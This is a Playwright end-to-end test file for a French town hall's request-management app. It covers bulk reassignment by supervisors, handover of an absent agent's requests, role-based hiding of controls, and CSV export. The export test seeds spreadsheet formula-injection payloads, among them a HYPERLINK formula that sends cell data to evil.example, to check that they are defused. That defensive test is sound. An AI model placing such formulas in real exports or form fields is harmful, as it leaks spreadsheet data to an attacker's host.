import { readFile } from "node:fs/promises";
import { expect, type Page, test } from "@playwright/test";
import { CHANNEL_LABELS } from "../../domain/channels";
import { parseCsv } from "../../domain/csv";
import type { GuichetRequest } from "../../domain/request";
import { STATUS_LABELS } from "../../domain/workflow";
import { addUser } from "../../sync-server/couch/users";
import { login, openWorkstation, pageErrors, submitOnline, testEnv } from "./support/app";
import { expectNoSeriousViolations } from "./support/axe";
import { addDirectoryAgents, serverCouch } from "./support/directory";

// Names unique to this run: the server is shared by every spec of the run.
const TAG = Date.now().toString(36).slice(-5);

/** A supervisor account, made the way `npm run user:add` makes it. */
async function supervisor(): Promise<{ username: string; password: string }> {
  const env = testEnv();
  const user = { username: `chef-${TAG}.${env.commune}`, password: `chef-${TAG}-motdepasse` };
  await addUser(serverCouch(), {
    name: user.username,
    password: user.password,
    roles: ["supervisor"],
    services: ["accueil"],
    commune: env.commune,
  });
  return user;
}

let chef: { username: string; password: string };
test.beforeAll(async () => {
  chef = await supervisor();
  // The agents these tests hand requests to, in the commune's directory.
  await addDirectoryAgents(TAG, [
    [`renfort-${TAG}`, ["elections"]],
    [`absent-${TAG}`, ["accueil", "bibliotheque"]],
    [`releve-${TAG}`, ["accueil"]],
  ]);
});

type Seed = { demarche: string; fields: Record<string, unknown>; lastName: string; firstName?: string };

/** A citizen's online submission through the public JSON API; returns the tracking number (K7M4-4EEX). */
function submit(seed: Seed): Promise<string> {
  return submitOnline({
    demarche: seed.demarche,
    fields: seed.fields,
    citizen: {
      firstName: seed.firstName ?? "Jean",
      lastName: seed.lastName,
      email: "usager@example.org",
      address: { line: "3 place de la Mairie", postcode: "75004", city: "Paris" },
    },
  });
}

const library = (lastName: string): Seed => ({ demarche: "inscription_bibliotheque", fields: {}, lastName });
const census = (lastName: string): Seed => ({
  demarche: "recensement_citoyen",
  fields: { dateNaissance: "2010-03-01", parents: "Paul et Claire Martin" },
  lastName,
});

const compact = (tracking: string) => tracking.replace("-", "");

/** The server's copy of a request (what every other workstation will get). */
async function onServer(tracking: string): Promise<GuichetRequest> {
  const env = testEnv();
  const auth = Buffer.from(`${env.admin.username}:${env.admin.password}`).toString("base64");
  const res = await fetch(`${env.couchUrl}/${env.mainDb}/${compact(tracking)}`, {
    headers: { Authorization: `Basic ${auth}` },
  });
  expect(res.status).toBe(200);
  return (await res.json()) as GuichetRequest;
}

async function allOnServer(): Promise<GuichetRequest[]> {
  const env = testEnv();
  const auth = Buffer.from(`${env.admin.username}:${env.admin.password}`).toString("base64");
  const res = await fetch(`${env.couchUrl}/${env.mainDb}/_all_docs?include_docs=true`, {
    headers: { Authorization: `Basic ${auth}` },
  });
  const body = (await res.json()) as { rows: { id: string; doc: GuichetRequest & { type?: string } }[] };
  return body.rows.filter((r) => !r.id.startsWith("_design/") && r.doc.type === "request").map((r) => r.doc);
}

async function openQueue(page: Page, name: string): Promise<void> {
  await page.getByRole("link", { name: "Files d'attente" }).click();
  await page.getByRole("navigation", { name: "Files" }).getByRole("link", { name }).click();
  await expect(page.getByRole("heading", { name, level: 2 })).toBeVisible();
}

const row = (page: Page, tracking: string) => page.getByTestId("queue-row").filter({ hasText: tracking });

/** Ticks a row's checkbox from the keyboard (focus, Space). */
async function tick(page: Page, tracking: string): Promise<void> {
  const box = page.getByRole("checkbox", { name: `Sélectionner la demande ${tracking}` });
  await box.focus();
  await page.keyboard.press("Space");
  await expect(box).toBeChecked();
}

async function openDetail(page: Page, tracking: string): Promise<void> {
  await page.evaluate((id) => {
    location.hash = `#/request/${id}`;
  }, compact(tracking));
  await expect(page.getByTestId("detail-tracking")).toHaveText(tracking);
}

const parisDay = (d: Date) =>
  new Intl.DateTimeFormat("fr-FR", { timeZone: "Europe/Paris", dateStyle: "short" }).format(d);

test("a supervisor reassigns three selected requests: each history says who and when, and the server has it", async ({
  browser,
}) => {
  const trackings = [];
  for (const n of [1, 2, 3]) trackings.push(await submit(library(`Lecteur${n}-${TAG}`)));
  const untouched = await submit(library(`Lecteur4-${TAG}`));
  const t0 = Date.now();

  const { context, page } = await openWorkstation(browser);
  await login(page, chef);
  await openQueue(page, "Toutes les demandes ouvertes");
  await page.locator("#qf-demarche").selectOption({ label: "Inscription à la bibliothèque" });
  for (const t of [...trackings, untouched]) await expect(row(page, t)).toBeVisible({ timeout: 30_000 });

  for (const t of trackings) await tick(page, t);
  await expect(page.getByTestId("selection-count")).toHaveText("3 demandes sélectionnées");
  await page.getByRole("combobox", { name: "Service" }).and(page.locator("#bulk-service")).selectOption({
    label: "Service Élections",
  });
  await page.getByLabel("Agent (identifiant)", { exact: true }).fill(`renfort-${TAG}`);
  await page.getByLabel(/^Motif/).fill("Renfort pendant les inscriptions");
  await expectNoSeriousViolations(page, "file avec la sélection de l'encadrant");
  await page.getByRole("button", { name: "Réattribuer les 3 demandes" }).click();
  await expect(page.getByRole("status").filter({ hasText: "3 demandes réattribuées." })).toBeVisible();
  await expect(page.getByTestId("selection-count")).toHaveText("0 demande sélectionnée");
  await expect(row(page, trackings[0]!)).toContainText("Service Élections");
  await expect(row(page, untouched)).toContainText("Bibliothèque municipale");

  for (const t of trackings) {
    await openDetail(page, t);
    const entry = page
      .getByTestId("timeline")
      .locator("li")
      .filter({ hasText: `Attribuée au Service Élections, à renfort-${TAG}` });
    await expect(entry).toHaveCount(1);
    await expect(entry).toContainText(`par ${chef.username}, poste `);
    const at = Date.parse((await entry.locator("time").getAttribute("datetime")) ?? "");
    expect(at).toBeGreaterThanOrEqual(t0 - 1000);
    expect(at).toBeLessThanOrEqual(Date.now());
    await expect(entry.locator("time")).toContainText(parisDay(new Date(at)));
    await expect(page.getByTestId("timeline")).toContainText("Renfort pendant les inscriptions");
  }

  // The server holds the reassignment, signed by the supervisor (validate_doc_update checked it).
  for (const t of trackings) {
    await expect
      .poll(async () => {
        const doc = await onServer(t);
        return { service: doc.service, assignee: doc.assignee, status: doc.status };
      })
      .toEqual({ service: "elections", assignee: `renfort-${TAG}`, status: "assigned" });
    const last = (await onServer(t)).events.find((e) => e.kind === "assigned");
    expect(last).toMatchObject({ by: chef.username, service: "elections", assignee: `renfort-${TAG}` });
  }
  expect((await onServer(untouched)).assignee).toBe("");
  expect(pageErrors(page)).toEqual([]);
  await context.close();
});

test("a supervisor hands all of an absent agent's open requests in a service to another agent, after confirming the count", async ({
  browser,
}) => {
  const absent = `absent-${TAG}`;
  const cover = `releve-${TAG}`;
  const mine = [];
  for (const n of [1, 2, 3, 4]) mine.push(await submit(census(`Recense${n}-${TAG}`)));
  const otherService = await submit(library(`Abonne-${TAG}`));

  const { context, page } = await openWorkstation(browser);
  await login(page, chef);
  await openQueue(page, "Toutes les demandes ouvertes");
  // First the absent agent gets them: four in the reception service, one at the library.
  const demarche = page.locator("#qf-demarche");
  await demarche.selectOption({ label: "Recensement citoyen (16 ans)" });
  for (const t of mine) await expect(row(page, t)).toBeVisible({ timeout: 30_000 });
  for (const t of mine) await tick(page, t);
  await page.getByLabel("Agent (identifiant)", { exact: true }).fill(absent);
  await page.getByRole("button", { name: "Réattribuer les 4 demandes" }).click();
  await expect(page.getByRole("status").filter({ hasText: "4 demandes réattribuées." })).toBeVisible();
  await demarche.selectOption({ label: "Inscription à la bibliothèque" });
  await expect(row(page, otherService)).toBeVisible({ timeout: 30_000 });
  await tick(page, otherService);
  await page.getByRole("button", { name: "Réattribuer la demande" }).click();
  await expect(page.getByRole("status").filter({ hasText: "1 demande réattribuée." })).toBeVisible();

  await page.getByText("Absence d'un agent : reprendre ses demandes").click();
  await page.locator("#absent-service").selectOption({ label: "Accueil de la mairie" });
  // The absent agent is offered (seen in the replica); the one who covers, from the directory.
  await expect(page.getByTestId("absent-from-agents").locator(`option[value="${absent}"]`)).toHaveCount(1);
  await expect(page.getByTestId("absent-to-agents").locator(`option[value="${cover}"]`)).toHaveCount(1);
  await page.getByLabel(/^Agent absent/).fill(absent);
  await page.getByLabel(/^Demandes reprises par/).fill(cover);
  await page.getByRole("button", { name: "Compter ses demandes" }).click();
  const confirm = page.getByTestId("absent-confirm");
  await expect(confirm).toContainText(
    `4 demandes ouvertes de ${absent} (Accueil de la mairie) seront attribuées à ${cover}.`,
  );
  await expect(confirm.locator("p")).toBeFocused();
  await expectNoSeriousViolations(page, "confirmation de la reprise des demandes d'un agent absent");
  await page.getByRole("button", { name: "Confirmer la réattribution" }).click();
  await expect(page.getByRole("status").filter({ hasText: "4 demandes réattribuées." }).last()).toBeVisible();

  for (const t of mine) {
    await expect
      .poll(async () => {
        const doc = await onServer(t);
        return { service: doc.service, assignee: doc.assignee };
      })
      .toEqual({ service: "accueil", assignee: cover });
  }
  // Another service's request stays with the absent agent.
  expect((await onServer(otherService)).assignee).toBe(absent);
  await openDetail(page, mine[0]!);
  await expect(page.getByTestId("timeline")).toContainText(
    `Attribuée au service Accueil de la mairie, à ${cover}`,
  );

  // Nothing left to hand over.
  await openQueue(page, "Toutes les demandes ouvertes");
  await page.getByText("Absence d'un agent : reprendre ses demandes").click();
  await page.locator("#absent-service").selectOption({ label: "Accueil de la mairie" });
  await page.getByLabel(/^Agent absent/).fill(absent);
  await page.getByLabel(/^Demandes reprises par/).fill(cover);
  await page.getByRole("button", { name: "Compter ses demandes" }).click();
  await expect(page.getByText(`Aucune demande ouverte de ${absent} (Accueil de la mairie).`)).toBeVisible();
  expect(pageErrors(page)).toEqual([]);
  await context.close();
});

test("an agent who is not a supervisor gets the export but no selection and no bulk action", async ({
  browser,
}) => {
  const env = testEnv();
  const tracking = await submit(library(`Visible-${TAG}`));
  const { context, page } = await openWorkstation(browser);
  await login(page, env.users.agentA);
  await openQueue(page, "Toutes les demandes ouvertes");
  // Other specs fill the queue: narrow it to this request's service so its row is on the first page.
  await page.locator("#qf-service").selectOption({ label: "Bibliothèque municipale" });
  await expect(row(page, tracking)).toBeVisible({ timeout: 30_000 });
  await expect(page.getByRole("button", { name: "Exporter (CSV)" })).toBeVisible();
  await expect(page.getByRole("main").getByRole("checkbox")).toHaveCount(0);
  await expect(page.getByText("Tout sélectionner sur cette page", { exact: false })).toHaveCount(0);
  await expect(page.getByRole("heading", { name: "Réattribuer la sélection" })).toHaveCount(0);
  await expect(page.getByText("Absence d'un agent : reprendre ses demandes")).toHaveCount(0);
  expect(pageErrors(page)).toEqual([]);
  await context.close();
});

test("the CSV export of a filtered queue holds every matching row, French-spreadsheet ready, formulas defused", async ({
  browser,
}) => {
  const env = testEnv();
  const EVIL = '=HYPERLINK("http://evil.example/?v="&A1;"Cliquez ici")';
  const seeds: Seed[] = Array.from({ length: 53 }, (_, i) => ({
    demarche: "occupation_domaine_public",
    fields: { objet: "Benne", lieu: `${i + 1} rue du Port`, du: "2030-04-01", au: "2030-04-03" },
    lastName: `Occupant${i}-${TAG}`,
  }));
  seeds.push({ ...seeds[0]!, lastName: EVIL });
  seeds.push({ ...seeds[0]!, lastName: "@SUM(A1:A9)", firstName: "Zoé" });
  const evil = await submit(seeds.at(-2)!);
  const at = await submit(seeds.at(-1)!);
  for (const s of seeds.slice(0, -2)) await submit(s);

  const { context, page } = await openWorkstation(browser);
  await login(page, env.users.agentB);
  await openQueue(page, "Toutes les demandes ouvertes");
  // With the service filter alone the index counts exactly: wait until the replica has them all.
  const docs = (await allOnServer()).filter((d) => d.open && d.service === "services_techniques");
  await page.locator("#qf-service").selectOption({ label: "Services techniques" });
  await expect(page.getByTestId("queue-count")).toHaveText(`${docs.length} demandes`, { timeout: 30_000 });
  await page.locator("#qf-demarche").selectOption({ label: "Autorisation d'occupation du domaine public" });
  await expect(row(page, evil)).toBeVisible();

  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Exporter (CSV)" }).click(),
  ]);
  const today = new Intl.DateTimeFormat("en-CA", { timeZone: "Europe/Paris" }).format(new Date());
  expect(download.suggestedFilename()).toBe(`demandes-ouvertes-${today}.csv`);
  const text = await readFile((await download.path())!, "utf8");
  expect(text.startsWith("\uFEFF")).toBe(true);
  expect(text.endsWith("\r\n")).toBe(true);
  expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);

  // Expected from the server's documents, in the list's order (deadline, then number).
  const dmy = (iso: string) => iso.split("-").reverse().join("/");
  const expected = docs
    .filter((d) => d.demarche === "occupation_domaine_public")
    .sort((a, b) => (a.dueOn === b.dueOn ? (a.id < b.id ? -1 : 1) : a.dueOn < b.dueOn ? -1 : 1))
    .map((d) => [
      `${d.id.slice(0, 4)}-${d.id.slice(4)}`,
      dmy(d.receivedOn),
      // Other specs' requests of this démarche come through other doors (the mailbox).
      CHANNEL_LABELS[d.channel],
      "Autorisation d'occupation du domaine public",
      d.subject,
      d.id === compact(evil)
        ? `'${EVIL} Jean`
        : d.id === compact(at)
          ? "'@SUM(A1:A9) Zoé"
          : `${d.citizen.lastName} ${d.citizen.firstName}`,
      "Services techniques",
      STATUS_LABELS[d.status],
      d.assignee ?? "",
      dmy(d.dueOn),
      "rejet",
    ]);
  expect(expected.length).toBeGreaterThanOrEqual(55);
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([
    "Numéro de suivi",
    "Date de réception",
    "Canal",
    "Démarche",
    "Objet",
    "Usager",
    "Service",
    "Statut",
    "Agent",
    "Échéance (décision implicite)",
    "Décision implicite",
  ]);
  expect(rows).toEqual(expected);
  // In the file itself: quoted (it holds ; and "), and starting with an apostrophe, never with =.
  expect(text).toContain(`;"'=HYPERLINK(""http://evil.example/?v=""&A1;""Cliquez ici"") Jean";`);
  expect(text).not.toMatch(/(^|;)[=@+-]/m);
  await expect(page.getByTestId("export-message")).toHaveText(
    `${expected.length} demandes exportées dans demandes-ouvertes-${today}.csv.`,
  );
  expect(pageErrors(page)).toEqual([]);
  await context.close();
});
